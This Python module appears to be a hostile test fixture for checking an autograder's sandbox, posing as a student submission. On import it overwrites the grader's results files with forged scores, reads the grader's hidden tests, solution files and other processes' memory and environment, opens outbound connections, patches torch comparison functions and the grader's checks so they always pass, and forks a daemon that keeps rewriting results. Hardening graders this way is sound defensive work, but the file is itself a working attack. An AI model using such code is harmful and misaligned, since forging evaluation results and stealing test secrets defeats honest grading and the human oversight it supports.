"""Hostile at import: forges results, reads the staff's secrets, tampers with torch and pytest, leaves a daemon.

What it managed is reported in the exceptions its functions raise, so the staff
test can read it from the grader's own results: ``READ <path>`` for a secret it
could read (must never happen), ``DENIED`` counts the attempts that failed,
``FORGED <path>`` for a results file it could write (must never happen),
``network`` for a connection it could open (must never happen).
"""
import glob
import json
import os
import sys
import time

import torch

FORGED = {"score": 1000.0, "output": "FORGED BY STUDENT", "tests": [
    {"name": "1a-0-basic forged", "score": 1000.0, "max_score": 0.5, "output": "FORGED BY STUDENT"}]}
REPORT = {"read": [], "denied": 0, "forged": [], "results": None, "root": None, "network": []}
LISTENER_PORT = 0  # the staff test writes here the port it listens on, on 127.0.0.1 outside the sandbox


def _ancestors():
    pid, seen = os.getppid(), []
    while pid > 1 and len(seen) < 20:
        seen.append(f"/proc/{pid}/cmdline")
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return seen


def _grader_arguments():
    """The grader's command line, read from /proc (readable by any user): its own grader first."""
    for cmdline in _ancestors() + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            argv = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        words = [w.decode(errors="replace") for w in argv]
        if any(w.endswith("grader.py") for w in words) and "--results" in words:
            return words
    return []


def _forge(path):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            json.dump(FORGED, handle)
        REPORT["forged"].append(path)
    except OSError:
        REPORT["denied"] += 1


def _try_read(path):
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            REPORT["read"].append(f"{path} (lists {len(names)})")
            for name in names:
                _try_read(os.path.join(path, name))
        else:
            with open(path, "rb") as handle:
                data = handle.read(64)
            REPORT["read"].append(f"{path} ({len(data)} bytes)")
            print("SECRET", path, data)
    except OSError:
        REPORT["denied"] += 1


words = _grader_arguments()
if words:
    results = os.path.abspath(words[words.index("--results") + 1])
    REPORT["results"] = results
    _forge(results)
    _forge(os.path.join(os.path.dirname(results), "forged.json"))
    # /autograder/results/results.json-like path under the staff test's temporary root
    root = results.split("/autograder/")[0] if "/autograder/" in results else os.path.dirname(results)
    _forge(os.path.join(root, "autograder", "results", "results.json"))
_forge("/autograder/results/results.json")
if REPORT["results"]:  # litter in the shared /tmp, which the grader must clean up
    import hashlib

    with open("/tmp/ps1-hostile-" + hashlib.sha1(REPORT["results"].encode()).hexdigest()[:12], "w") as litter:
        litter.write("left behind")
# the grader's folder: it is on the worker's sys.path
grader_root = next((p for p in sys.path if p and os.path.exists(os.path.join(p, "grader.py"))),
                   os.path.dirname(next((w for w in words if w.endswith("grader.py")), "/work/main/grader.py")))
REPORT["root"] = grader_root
for secret in ("hidden_tests/fixtures/expected.pt", "hidden_tests/fixtures", "hidden_tests", "solution/made.py",
               "solution", ".git/config", "staff", "staff_tests/mutants", "staff_tests"):
    _try_read(os.path.join(grader_root, secret))
for pid in [p.split("/")[2] for p in glob.glob("/proc/[0-9]*/cmdline")]:
    for what in ("environ", "mem"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                handle.read(16)
            if os.stat(f"/proc/{pid}").st_uid == 0:
                REPORT["read"].append(f"/proc/{pid}/{what} (root's)")
        except OSError:
            pass

# send something out: to the staff test's listener, and to the internet
import socket  # noqa: E402

for address in ([("127.0.0.1", LISTENER_PORT)] if LISTENER_PORT else []) + [("pypi.org", 443)]:
    try:
        socket.create_connection(address, timeout=3).close()
        REPORT["network"].append(f"{address[0]}:{address[1]}")
    except OSError:
        REPORT["denied"] += 1

# tamper with what a grader might use to compare
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
sys.modules["pytest"] = type(sys)("pytest")
try:
    import src.grading.host.judging.checks as checks

    checks.expect_close = checks.expect_equal = lambda *args, **kwargs: None
except Exception:
    pass

# a daemon that outlives the call and keeps trying to overwrite the results
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.time() + 120
        while time.time() < deadline:
            if REPORT["results"]:
                try:
                    with open(REPORT["results"], "w") as handle:
                        json.dump(FORGED, handle)
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)


def _report():
    return (f"HOSTILE REPORT read={REPORT['read']} forged={REPORT['forged']} network={REPORT['network']} "
            f"denied={REPORT['denied']} "
            f"results={REPORT['results']} root={REPORT['root']}")


def bernoulli_log_likelihood(x, logits):
    raise RuntimeError(_report())


def categorical_log_likelihood(x, logits):
    return torch.zeros(x.shape[0], dtype=torch.float64)  # wrong, whatever torch.allclose says in here


def nll_to_bits_per_dim(nll, num_dims):
    sys.exit(0)
